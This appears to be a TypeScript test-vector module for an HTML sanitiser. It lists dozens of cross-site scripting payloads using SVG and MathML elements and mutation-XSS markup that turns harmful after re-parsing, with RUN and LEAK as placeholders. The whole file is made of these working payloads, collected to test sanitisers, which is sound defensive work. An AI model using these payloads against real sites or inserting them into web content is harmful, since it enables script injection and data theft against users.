import type {Writer} from './vectors.js';
import {lines} from './writers.js';

/** SVG and MathML, in which other parsing rules apply and any element may be a link. */
export const FOREIGN: readonly Writer[] = lines(String.raw`
  <svg onload=RUN>
  <svg/onload=RUN>
  <svg><g onload=RUN></g></svg>
  <svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>
  <svg><script>RUN</script></svg>
  <svg><script>&#112;arent.hit(0),RUN</script></svg>
  <svg><script href="data:text/javascript,RUN" /></svg>
  <svg><script xlink:href=LEAK></script></svg>
  <svg><script><![CDATA[RUN]]></script></svg>
  <svg><a href="javascript:RUN"><text y=9>x</text></a></svg>
  <svg><a xlink:href="javascript:RUN"><rect width=9 height=9 /></a></svg>
  <svg><a><text y=9>x</text><animate attributeName=href values="javascript:RUN" /></a></svg>
  <svg><a><set attributeName=xlink:href to="javascript:RUN" /><text y=9>x</text></a></svg>
  <svg><animate href=#a attributeName=href from="javascript:RUN" to=1 /><a id=a><text y=9>x</text></a></svg>
  <svg><animate onbegin=RUN attributeName=x dur=1s></svg>
  <svg><animate onend=RUN attributeName=x dur=1ms></svg>
  <svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>
  <svg><animateMotion onbegin=RUN dur=1s></svg>
  <svg><set onbegin=RUN attributeName=x to=1></svg>
  <svg><set attributeName=onload to="RUN" /></svg>
  <svg><discard onbegin=RUN></svg>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x" /></svg>
  <svg><use href="LEAK#x" /></svg>
  <svg><image href=x onerror=RUN /></svg>
  <svg><image xlink:href=LEAK /></svg>
  <svg><feImage href=LEAK /></svg>
  <svg><filter><feImage xlink:href="data:image/svg+xml,<svg onload=RUN>" /></filter></svg>
  <svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>
  <svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
  <svg><foreignObject><body onload=RUN></foreignObject></svg>
  <svg><handler ev:event=load xmlns:ev="http://www.w3.org/2001/xml-events">RUN</handler></svg>
  <svg><listener event=load handler=#h /><handler id=h>RUN</handler></svg>
  <svg><style>@import "LEAK"; * {background: url(LEAK)}</style></svg>
  <svg><style><img src=x onerror=RUN></style></svg>
  <svg><title><img src=x onerror=RUN></title></svg>
  <svg><desc><img src=x onerror=RUN></desc></svg>
  <svg><text fill="url(LEAK#x)" clip-path="url(LEAK#y)" mask="url(LEAK#z)" y=9>x</text></svg>
  <svg><path style="marker-start:url(LEAK#x)" d="M0 0"/></svg>
  <svg><cursor xlink:href=LEAK /></svg>
  <svg><font-face-uri xlink:href=LEAK /></svg>
  <svg><a xlink:href="?"><circle r=9 /><animate attributeName=xlink:href begin=0 from="javascript:RUN" to=x /></a></svg>
  <svg><metadata><script>RUN</script></metadata></svg>
  <svg><switch><script>RUN</script></switch></svg>
  <svg><![CDATA[><image href="]]><img src=x onerror=RUN//"></svg>
  <svg:svg onload=RUN><svg:script>RUN</svg:script></svg:svg>
  <svg id=x viewBox="0 0 9 9" tabindex=1 onfocus=RUN autofocus></svg>
  <math href="javascript:RUN">x</math>
  <math xlink:href="javascript:RUN">x</math>
  <math><mtext href="javascript:RUN">x</mtext></math>
  <math><mi xlink:href="javascript:RUN">x</mi></math>
  <math><maction actiontype=statusline#http://x.example xlink:href="javascript:RUN">x</maction></math>
  <math><maction actiontype=toggle onclick=RUN><mi>x</mi></maction></math>
  <math><x href="javascript:RUN">x</x></math>
  <math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
  <math><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></annotation-xml></math>
  <math><semantics><annotation-xml encoding="image/svg+xml"><svg onload=RUN></svg></annotation-xml></semantics></math>
  <math><mglyph src=LEAK /></math>
  <math><ms><script>RUN</script></ms></math>
  <math><mstyle mathbackground="url(LEAK)" onclick=RUN><mi>x</mi></mstyle></math>
  <math definitionURL=LEAK cdgroup=LEAK><csymbol>x</csymbol></math>
`);

/** Markup that is harmless when first parsed, but not when serialised and parsed again. */
export const MUTATIONS: readonly Writer[] = lines(
  String.raw`
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
  <math><mtext><table><mglyph><style><math href=javascript:RUN>x</math>
  <math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
  <form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=RUN>"></style></h1>
  <math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title="</style><img src=# onerror=RUN>">
  <math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=1>">
  <math></br><textarea><mtext><template><style></textarea><img src=x onerror=RUN>
  <math></p><textarea><mi><style></textarea><img src=x onerror=RUN></mi></math>
  <math></p><style><!--</style><img src/onerror=RUN>
  <math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;RUN<!--"></style>
  <math><annotation-xml><svg><foreignObject><style><a title="</style><img src=x onerror=RUN>">
  <math><mi><b><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">
  <math><mtext><b><malignmark><style><a id="</style><img src=x onerror=RUN>">
  <svg></p><style><a id="</style><img src=1 onerror=RUN>">
  <svg></p><textarea><title><style></textarea><img src=x onerror=RUN></style></title></svg>
  <svg></p><title><a id="</title><img src=x onerror=RUN>"></textarea></svg>
  <svg></p><title><template><style></title><img src=x onerror=RUN>
  <svg></p><math><title><style><img src=x onerror=RUN></style></title>
  <svg><p><style><g title="</style><img src=x onerror=RUN>">
  <svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;RUN<!--"></style>
  <svg><foreignobject><math><mi><!--</mi></math></foreignobject><img src=x onerror=RUN>-->
  <svg><desc><table><svg><style><a id="</style><img src=x onerror=RUN>">
  <svg><title><svg><style><a id="</style><img src=x onerror=RUN>">
  <svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">
  <svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=RUN>">
  <svg><b><b title="--></b></svg><img src=x onerror=RUN>">
  <svg><!--</svg><img src=x onerror=RUN>-->
  <svg><![CDATA[</svg><img src=x onerror=RUN>]]>
  <svg><font color=x><style><a id="</style><img src=x onerror=RUN>">
  <svg></br><style><a title="</style><img src=x onerror=RUN>">
  <xmp><svg><b><style><b title='</style><img src=x onerror=RUN>'>
  <xmp><p title="</xmp><img src=x onerror=RUN>">
  <noembed><svg><b><style><b title='</style><img src=x onerror=RUN>'>
  <noembed><p title="</noembed><img src=x onerror=RUN>">
  <noframes><p title="</noframes><img src=x onerror=RUN>">
  <noscript><p title="</noscript><img src=x onerror=RUN>">
  <noscript><!-- </noscript><img src=x onerror=RUN> --></noscript>
  <noscript><style></noscript><img src=x onerror=RUN>
  <noscript><a title="</noscript><svg onload=RUN>"></a></noscript>
  <iframe><p title="</iframe><img src=x onerror=RUN>">
  <iframe><textarea></iframe><img src=x onerror=RUN>
  <textarea><p title="</textarea><img src=x onerror=RUN>">
  <textarea>x</textarea><!--</textarea><img src=x onerror=RUN>-->
  <textarea><!--</textarea><script>RUN</script>--></textarea>
  <title><p title="</title><img src=x onerror=RUN>">
  <title>&lt;/title&gt;&lt;img src=x onerror=RUN&gt;</title>
  <style><style/><img src=x onerror=RUN>
  <style><img src="</style><img src=x onerror=RUN//">
  <style>&lt;/style&gt;&lt;img src=x onerror=RUN&gt;</style>
  <style><!--</style><img src=x onerror=RUN>--></style>
  <plaintext><img src=x onerror=RUN>
  <listing>&lt;img onerror="RUN" src=x&gt;<t t></listing>
  <select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=RUN>">
  <select><iframe></select><img src=x onerror=RUN>
  <select><keygen><img src=x onerror=RUN></select>
  <select><option><style><p title="</style><img src=x onerror=RUN>">
  <select><div><math><mtext><style><a id="</style><img src=x onerror=RUN>">
  <option><style></option></select><b><img src=x onerror=RUN></style></option>
  <template><s><template><s><img src=x onerror=RUN></s></template></s></template>
  <template><style></template><img src=x onerror=RUN></style>
  <table><caption><svg><style></caption></table><img src=x onerror=RUN>
  <table><td><svg><desc><td></desc><style><a id="</style><img src=x onerror=RUN>">
  <table><tr><td><form></table><form><math><mtext></form><style><img src=x onerror=RUN>
  <table><script>RUN</script><tr><td>x</table>
  <table><input type=hidden onfocus=RUN><tr><img src=x onerror=RUN><td>x</table>
  <form><form><input name=x></form><img src=x onerror=RUN></form>
  <form id=a><table><form id=b><input form=a onfocus=RUN autofocus></table></form>
  <a><table><a href="javascript:RUN">x</a></table></a>
  <a href=/x><svg><a href="javascript:RUN">x</a></svg></a>
  <b><p><a href="javascript:RUN"><b></p>x</a></b>
  <p><svg><p><img src=x onerror=RUN></p></svg></p>
  <dl><dt><svg><dd><style><a id="</style><img src=x onerror=RUN>">
  <h1><h2><math><h3><style><img src=x onerror=RUN></style></h3></math></h2></h1>
  <img src=x id/=' onerror=RUN//'>
  <img src="x\"onerror=RUN//">
  <!--<img src="--><img src=x onerror=RUN//">
  <comment><img src="</comment><img src=x onerror=RUN//">
  <!-- ` +
    '`' +
    String.raw`<img/src=x onerror=RUN//--!>x
  <? foo="><x foo='?><script>RUN</script>'>">
  </ foo="><script>RUN</script>">
  <object><p title="</object><img src=x onerror=RUN>">x</object>
  <ruby><rtc><svg><rt><style><a id="</style><img src=x onerror=RUN>">
  <li><svg><li><style><a id="</style><img src=x onerror=RUN>">
  <body><svg><body onload=RUN><head><style><a id="</style><img src=x onerror=RUN>">
  <frameset><noframes><p title="</noframes><img src=x onerror=RUN>"></frameset>
`,
).concat(
  // Deeper than a parser nests, so that serialised markup parses differently.
  [510, 512, 600].map(depth => run => {
    const nested = '<div>'.repeat(depth);
    return `${nested}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${run}>"></a></style></svg></caption></table>`;
  }),
  [253, 300].map(
    depth => run =>
      `${'<form><h1></form><table></h1></form>'.repeat(depth)}<img src=x onerror=${run}>`,
  ),
);
